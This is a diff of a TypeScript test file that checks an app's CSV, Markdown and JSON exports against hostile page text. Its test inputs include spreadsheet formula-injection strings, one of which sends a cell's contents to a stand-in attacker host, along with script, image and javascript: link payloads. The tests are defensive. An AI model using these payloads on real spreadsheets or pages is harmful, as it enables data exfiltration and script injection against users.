@@ -1,10 +1,13 @@
 /** Protects what is filed from a page: every line stands by itself, and a page can smuggle nothing into it. */
+import { HtmlRenderer, Parser } from 'commonmark';
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { CardModel } from '../../../lib/card/model/card-model.ts';
 import { exportMentions, fileName, type ExportRequest } from '../../../lib/card/export/export-mentions.ts';
 import { linkTo } from '../../../lib/card/export/text-fragment.ts';
 import { createMessages } from '../../../lib/i18n/messages.ts';
+import { runs } from '../../support/runs.ts';
 
 const gallium: CardModel = {
   id: 'mineral/gallium',
@@ -122,27 +125,136 @@ it('gives the same as data for programs, and as notes grouped by entry', () => {
   expect(exportMentions('markdown', { ...request, card: () => held })).toContain(
     ':\n  - Paused (China to United States)\n  - Licence needed (China to all destinations)\n',
   );
-  expect(notes).toContain('- [2] MOFCOM, Announcement 72, 9 Nov 2025. https://mofcom.example/72');
+  expect(notes).toContain('- [2] MOFCOM, Announcement 72, 9 Nov 2025. <https://mofcom.example/72>');
 });
 
-describe('a page that means harm', () => {
-  const hostile = {
-    ...mention,
-    text: '=HYPERLINK("https://evil.example")',
-    quote: '=cmd|calc [click](https://evil.example) <script>',
-  };
-  it('gets no formula into a sheet', () => {
-    const [line] = Papa.parse<Record<string, string>>(
-      exportMentions('csv', { ...request, mentions: [hostile] }).replace('\ufeff', ''),
-      { header: true },
-    ).data;
-    expect(line?.['quote']).toMatch(/^'=/);
-    expect(line?.['text']).toMatch(/^'=/);
+/** Begins of cells that spreadsheets run, after all that they skip or take for the end of a line or a cell. */
+const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+const BEFORE = ['', ' ', '\t', '\r', '\n', '\r\n', '\v', '\f', '\x85', '\u2028', '\u2029', ';', '; ', '\u2028;'];
+const RUNS_IN_A_SPREADSHEET = /(?:^|[;\t\v\f\r\n\x85\u2028\u2029])\s*[=+\-@＝＋－＠]/;
+
+/** Every text of a page or a list that an export holds. */
+const withText = (text: string): ExportRequest => ({
+  ...request,
+  page: { ...request.page, title: text, articleDay: text },
+  mentions: [{ ...mention, text, quote: text }],
+  list: text,
+  card: () => ({
+    ...gallium,
+    name: text,
+    kindLabel: text,
+    open: text,
+    newest: text,
+    statusThen: [{ text, refs: [1] }],
+    statusNow: [
+      { text, refs: [1] },
+      { text, refs: [] },
+    ],
+    sources: gallium.sources.map((source) => ({ ...source, publisher: text, title: text, date: text })),
+  }),
+});
+
+describe('a page or a list that means harm', () => {
+  it('gets no formula into a spreadsheet, and no cell onto a second line', () => {
+    for (const before of BEFORE)
+      for (const start of STARTS) {
+        const file = exportMentions('csv', withText(`${before}${start}HYPERLINK("https://evil.example/?q="&B2,"x")`));
+        const cells = Papa.parse<string[]>(file.replace('\ufeff', ''), { skipEmptyLines: true }).data.flat();
+        expect(cells).toHaveLength(34);
+        expect(cells.filter((cell) => RUNS_IN_A_SPREADSHEET.test(cell))).toEqual([]);
+        expect(file.split(/[\r\n\v\f\x85\u2028\u2029]+/)).toHaveLength(3);
+      }
   });
-  it('gets no link or markup into notes', () => {
-    const notes = exportMentions('markdown', { ...request, mentions: [hostile] });
-    expect(notes).toContain('\\[click\\](https://evil.example) \\<script\\>');
+
+  const ours = renderedElements(exportMentions('markdown', withText('words')));
+  it.each([
+    ['an image', '![x](https://evil.example/seen.png)'],
+    ['an image by reference', '![x][y]\n\n[y]: https://evil.example/seen.png'],
+    ['a link', '[sign in](javascript:alert(1))'],
+    ['a link in angle brackets', '<https://evil.example>'],
+    ['HTML', '<img src=https://evil.example/seen.png onerror=alert(1)>'],
+    ['HTML after a line break', 'Trade\n\n<script>alert(1)</script>'],
+    ['HTML after a separator that programs differ about', 'Trade\u2028\u2028<iframe src=//evil.example>'],
+    ['a character reference', '&lt;b&gt;'],
+    ['a heading', 'Trade\n# News'],
+    ['a heading by its underline', 'Trade\n==='],
+    ['a list', '- one\n- two'],
+    ['a numbered list', '1. one\n2) two'],
+    ['a rule', '***\n---\n___'],
+    ['code', '`a` ``b`` \n```\nc\n```\n    d'],
+    ['emphasis', '*a* **b** _c_ ~~d~~'],
+    ['a backslash before markup', '\\*a\\* \\<b>'],
+  ])('gets no markup into notes: %s', (_, text) => {
+    expect(renderedElements(exportMentions('markdown', withText(text)))).toEqual(ours);
   });
+
+  it('gets no markup into notes, and its words come through', () => {
+    const piece = fc.constantFrom(
+      ...'!()[]<>*_`~#&;:\\\n\r\t -=+.|$^"\'1a',
+      '\u2028',
+      'https://e.example/',
+      '<b>',
+      '&amp;',
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+        const text = `w${pieces.join('')}`;
+        const notes = exportMentions('markdown', withText(text));
+        expect(renderedElements(notes)).toEqual(ours);
+        const heading = new Parser().parse(notes).firstChild;
+        const words = text.replace(/[\s\u2028]+/g, ' ').trim();
+        expect(heading && textIn(heading).replace(/\s+/g, ' ')).toBe(words);
+      }),
+      runs(300),
+    );
+  });
+
+  it.each([
+    `https://news.example/story)![](https://evil.example/seen.png)[x](y`,
+    'https://news.example/story> <img src=https://evil.example/seen.png>',
+    'https://news.example/story\n\n![](https://evil.example/seen.png)',
+    'https://news.example/a`b\\',
+  ])('gets no markup into notes by its address: %s', (url) => {
+    const notes = exportMentions('markdown', {
+      ...request,
+      page: { ...request.page, url },
+      card: () => ({ ...gallium, sources: gallium.sources.map((source) => ({ ...source, url })) }),
+    });
+    expect(renderedElements(notes)).toEqual(renderedElements(exportMentions('markdown', request)));
+    expect(notes).not.toContain('](https://evil');
+  });
+
+  it('gets no link of a kind that runs', () => {
+    const notes = exportMentions('markdown', {
+      ...request,
+      page: { ...request.page, url: 'javascript:alert(1)//https://news.example/' },
+    });
+    expect(new HtmlRenderer().render(new Parser().parse(notes))).not.toMatch(/href="javascript:/i);
+  });
+});
+
+/** The elements that a Markdown program makes of notes, in their order, without their text. */
+function renderedElements(notes: string): string[] {
+  const found: string[] = [];
+  const walker = new Parser().parse(notes).walker();
+  for (let event = walker.next(); event; event = walker.next())
+    if (event.entering && event.node.type !== 'text') found.push(event.node.type);
+  return found;
+}
+
+function textIn(node: {
+  walker: () => { next: () => { entering: boolean; node: { literal: string | null } } | null };
+}) {
+  const walker = node.walker();
+  let text = '';
+  for (let event = walker.next(); event; event = walker.next()) text += event.node.literal ?? '';
+  return text;
+}
+
+it('exports a quote that holds half a character', () => {
+  expect(exportMentions('json', { ...request, mentions: [{ ...mention, text: 'a\ud83d' }] })).toContain(
+    '#top:~:text=Beijing%20put-,a%EF%BF%BD,',
+  );
 });
 
 it('keeps an entry that the base no longer has, by its name', () => {
